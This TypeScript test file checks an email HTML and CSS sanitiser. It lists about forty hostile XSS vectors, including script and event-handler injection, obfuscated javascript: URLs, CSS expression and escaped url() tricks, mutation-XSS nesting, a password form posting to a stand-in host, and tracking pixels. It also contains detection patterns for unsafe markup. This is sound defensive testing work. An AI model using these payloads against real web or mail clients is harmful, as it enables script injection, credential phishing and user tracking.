import { createHash } from "node:crypto";

import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";

import { cleanInlineStyle, cleanStyleSheet } from "../../src/enrich/safe-css.js";
import { sanitizeMessageHtml } from "../../src/enrich/safe-html.js";
import type { ParsedAttachment } from "../../src/interfaces.js";
import { customerMail, parse, parseFixture } from "./helpers.js";

const EVIL = "evil.example";

/** Each vector on its own line: the test names the one that got through. */
const HOSTILE_VECTORS = [
  `<script>alert(1)</script>`,
  `<script src="http://${EVIL}/s.js"></script>`,
  `<SCRIPT>alert(1)</SCRIPT>`,
  `<img src="x" onerror="alert(2)">`,
  `<body onload="alert(3)">`,
  `<svg onload="alert(4)"><script>alert(5)</script><image href="http://${EVIL}/svg.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>`,
  `<a href="javascript:alert(7)">a</a>`,
  `<a href="JaVaScRiPt:alert(8)">a</a>`,
  `<a href="&#106;avascript:alert(9)">a</a>`,
  `<a href="java&#x09;script:alert(10)">a</a>`,
  `<a href="vbscript:msgbox(11)">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=">a</a>`,
  `<img src="http://${EVIL}/pixel.gif" width="1" height="1">`,
  `<img src="//${EVIL}/protocol-relative.gif">`,
  `<img srcset="http://${EVIL}/srcset.png 1x">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==">`,
  `<table background="http://${EVIL}/background.png"><tr><td>x</td></tr></table>`,
  `<p style="background-image: url('http://${EVIL}/inline.gif')">x</p>`,
  `<p style="width: expression(alert(14))">x</p>`,
  `<p style="behavior: url(x.htc)">x</p>`,
  `<p style="background: \\75 rl(http://${EVIL}/escaped.png)">x</p>`,
  `<p style="color: red} body {background: url(http://${EVIL}/break-out.png)">x</p>`,
  `<style>@import url("http://${EVIL}/import.css");</style>`,
  `<style>@im\\port 'http://${EVIL}/escaped-import.css';</style>`,
  `<style>body { background: url(http://${EVIL}/body.png) } p { width: expression(alert(15)) }</style>`,
  `<style>@font-face { font-family: X; src: url(http://${EVIL}/font.woff) }</style>`,
  `<style>.x { -moz-binding: url(http://${EVIL}/binding.xml#x) }</style>`,
  `<style>/* </style><script>alert(16)</script> */</style>`,
  `<link rel="stylesheet" href="http://${EVIL}/link.css">`,
  `<meta http-equiv="refresh" content="0;url=http://${EVIL}/refresh">`,
  `<base href="http://${EVIL}/">`,
  `<form action="http://${EVIL}/login"><input name="password" type="password"><button formaction="http://${EVIL}/b">Sign in</button></form>`,
  `<iframe src="http://${EVIL}/frame"></iframe>`,
  `<object data="http://${EVIL}/object.swf"></object>`,
  `<embed src="http://${EVIL}/embed.swf">`,
  `<video poster="http://${EVIL}/poster.png"><source src="http://${EVIL}/v.mp4"></video>`,
  `<template><script>alert(17)</script></template>`,
  `<noscript><img src="http://${EVIL}/noscript.png"></noscript>`,
  `<div id="login-form" name="x">clobbering</div>`,
  `<a href="/relative/api/delete">relative</a>`,
];

interface Finding {
  readonly tag: string;
  readonly what: string;
}

/**
 * What an allow-list must never let through, checked by parsing the output as a browser
 * would (htmlparser2), not by string search: so a test can only pass on clean output.
 */
function unsafeParts(html: string): Finding[] {
  const findings: Finding[] = [];
  const openStyles: string[] = [];
  const parser = new Parser(
    {
      onopentag(tag, attributes) {
        if (!ALLOWED_TAG_NAMES.has(tag)) findings.push({ tag, what: "element" });
        for (const [name, value] of Object.entries(attributes)) {
          if (name.startsWith("on")) findings.push({ tag, what: `handler ${name}` });
          if (name === "id" || name === "name") findings.push({ tag, what: `clobbering ${name}` });
          if (["background", "srcset", "poster", "action", "formaction", "data"].includes(name)) findings.push({ tag, what: `resource attribute ${name}` });
          if (name === "href" && !/^(?:https?:|mailto:|tel:)/i.test(value)) findings.push({ tag, what: `href ${value}` });
          if (name === "src" && !/^(?:attachments\/|data:image\/(?:png|gif|jpe?g|webp|bmp);)/i.test(value)) findings.push({ tag, what: `src ${value}` });
          if (name === "style" && unsafeCss(value)) findings.push({ tag, what: `style ${value}` });
        }
        if (tag === "a" && attributes.href !== undefined && (attributes.rel !== "noopener noreferrer" || attributes.target !== "_blank")) {
          findings.push({ tag, what: "link without rel/target" });
        }
        if (tag === "style") openStyles.push("");
      },
      ontext(text) {
        if (openStyles.length > 0) openStyles[openStyles.length - 1] += text;
      },
      onclosetag(tag) {
        if (tag === "style") {
          const css = openStyles.pop() ?? "";
          if (unsafeCss(css)) findings.push({ tag, what: `css ${css}` });
        }
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return findings;
}

const ALLOWED_TAG_NAMES = new Set(
  "a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr style".split(
    " ",
  ),
);

function unsafeCss(css: string): boolean {
  return /url\s*\(|expression\s*\(|@import|@font-face|behavior|-moz-binding|javascript:|\\|<|image-set\s*\(/i.test(css);
}

function remoteHostIn(html: string): boolean {
  return html.includes(EVIL);
}

describe("the hostile-HTML checker itself", () => {
  // A test of the sanitiser is only worth something if its checker would notice the vectors.
  it.each(HOSTILE_VECTORS)("flags the raw vector %s", (vector) => {
    expect(unsafeParts(vector).length > 0 || remoteHostIn(vector)).toBe(true);
  });
});

describe("sanitizeMessageHtml", () => {
  it.each(HOSTILE_VECTORS)("removes %s", (vector) => {
    const safe = sanitizeMessageHtml(`<p>before</p>${vector}<p>after</p>`, []);
    expect(unsafeParts(safe.html)).toEqual([]);
    expect(remoteHostIn(safe.html)).toBe(false);
    expect(safe.html).toContain("before");
    expect(safe.html).toContain("after");
  });

  it("all vectors in one document come out clean, and remote content is reported as blocked", () => {
    const safe = sanitizeMessageHtml(`<html><head>${HOSTILE_VECTORS.join("\n")}</head><body><p>Hello</p></body></html>`, []);
    expect(unsafeParts(safe.html)).toEqual([]);
    expect(remoteHostIn(safe.html)).toBe(false);
    expect(safe.remoteContentBlocked).toBe(true);
  });

  it("keeps formatting, links (opening in a new tab without opener or referrer), tables and safe CSS", () => {
    const safe = sanitizeMessageHtml(
      `<style>p.MsoNormal { margin: 0; font-family: "Calibri", sans-serif } @media (max-width: 600px) { td { display: block } }</style>` +
        `<p class="MsoNormal" style="color: #1F497D; font-size: 11pt">Hello <b>Jana</b>, see <a href="https://contoso.example/portal" target="_self">the portal</a> or <a href="mailto:help@contoso.example">mail us</a>.</p>` +
        `<table border="1" cellpadding="2"><tr><td align="right" colspan="2">19 %</td></tr></table>`,
      [],
    );
    expect(safe.html).toContain(
      '<style>p.MsoNormal { margin: 0; font-family: "Calibri", sans-serif } @media (max-width: 600px) { td { display: block } }</style>',
    );
    expect(safe.html).toContain('<p class="MsoNormal" style="color: #1F497D; font-size: 11pt">Hello <b>Jana</b>');
    expect(safe.html).toContain('<a href="https://contoso.example/portal" target="_blank" rel="noopener noreferrer">the portal</a>');
    expect(safe.html).toContain('<a href="mailto:help@contoso.example" target="_blank" rel="noopener noreferrer">mail us</a>');
    expect(safe.html).toContain('<td align="right" colspan="2">19 %</td>');
    expect(safe.remoteContentBlocked).toBe(false);
  });

  it("rewrites cid: images to the saved inline attachments (URL-encoded path), and drops unknown cids", () => {
    const logo = attachment("logo #1.png", "image001.png@01DA6F0B.5E5B6A10");
    const safe = sanitizeMessageHtml(
      `<img src="cid:image001.png@01DA6F0B.5E5B6A10" alt="Logo"><img src="CID:IMAGE001.PNG%4001DA6F0B.5E5B6A10"><img src="cid:missing@x" alt="gone">`,
      [logo],
    );
    expect(safe.html).toBe('<img src="attachments/logo%20%231.png" alt="Logo" /><img src="attachments/logo%20%231.png" /><img alt="gone" />');
    expect(safe.remoteContentBlocked).toBe(false);
  });

  it("keeps raster data: images", () => {
    const safe = sanitizeMessageHtml(`<img src="data:image/png;base64,iVBORw0KGgo=">`, []);
    expect(safe.html).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />');
  });
});

describe("CSS cleaning", () => {
  it("keeps harmless declarations and drops everything that loads or runs", () => {
    expect(cleanInlineStyle("color: red; background: url(x.png); width: 10px !important").css).toBe("color: red; width: 10px !important");
    expect(cleanInlineStyle("color: rgb(1, 2, 3); font-family: 'Calibri', sans-serif").css).toBe("color: rgb(1, 2, 3); font-family: 'Calibri', sans-serif");
    expect(cleanInlineStyle(" font-size: 11pt; margin: 0cm ").css).toBe("font-size: 11pt; margin: 0cm"); // the fast path
    expect(cleanInlineStyle("behavior: foo").css).toBe("");
    expect(cleanInlineStyle("color: red; background: url(x.png)").blockedRemote).toBe(true);
    expect(cleanInlineStyle("color: u/**/rl(x)").css).toBe("");
    expect(cleanInlineStyle("color: red} body {color: blue").css).toBe("");
    expect(cleanStyleSheet("a { color: red } @namespace x url(http://x); @charset 'utf-8';").css).toBe("a { color: red }");
    expect(cleanStyleSheet("a { color: red").css).toBe(""); // postcss cannot parse it: dropped whole
    expect(cleanStyleSheet("/* unterminated").css).toBe("");
    expect(cleanStyleSheet("<!--\np { margin: 0 }\n-->").css).toBe("p { margin: 0 }");
    expect(cleanStyleSheet("a { content: '</style><script>' }").css).toBe("");
  });
});

describe("through the parser", () => {
  it("a real Outlook HTML message: Word styles kept, @font-face dropped, no remote content", async () => {
    const parsed = await parseFixture("chains/outlook/1-first.eml");
    expect(parsed.safeHtml).toContain("p.MsoNormal, li.MsoNormal, div.MsoNormal");
    expect(parsed.safeHtml).not.toContain("@font-face");
    expect(parsed.safeHtml).toContain("reverse-charge");
    expect(unsafeParts(parsed.safeHtml!)).toEqual([]);
    expect(parsed.html).toContain("@font-face"); // the original stays as it was
  });

  it("a message with inline images: cid: points at the attachment the directory handler writes", async () => {
    const raw = customerMail({
      contentType: 'multipart/related; boundary="rel"',
      body: [
        "--rel",
        "Content-Type: text/html; charset=utf-8",
        "",
        '<p>Photo of the damage:</p><img src="cid:photo1@example.net"><img src="https://tracker.example.net/open.gif">',
        "--rel",
        "Content-Type: image/png",
        "Content-ID: <photo1@example.net>",
        'Content-Disposition: inline; filename="damage photo.png"',
        "Content-Transfer-Encoding: base64",
        "",
        "iVBORw0KGgo=",
        "--rel--",
      ],
    });
    const parsed = await parse(raw);
    expect(parsed.attachments[0]?.filename).toBe("damage photo.png");
    expect(parsed.safeHtml).toBe('<p>Photo of the damage:</p><img src="attachments/damage%20photo.png" /><img />');
    expect(parsed.remoteContentBlocked).toBe(true);
    expect(parsed.textFromHtml).toBe(true);
    expect(parsed.text).toContain("Photo of the damage");
  });

  it("a plain-text message has no safeHtml and says its text was written as text", async () => {
    const parsed = await parseFixture("chains/apple/1-first.eml");
    expect(parsed.safeHtml).toBeUndefined();
    expect(parsed.textFromHtml).toBe(false);
  });
});

function attachment(filename: string, contentId: string): ParsedAttachment {
  const content = Buffer.from("png");
  return {
    filename,
    contentType: "image/png",
    size: content.length,
    sha256: createHash("sha256").update(content).digest("hex"),
    contentId,
    inline: true,
    content,
  };
}
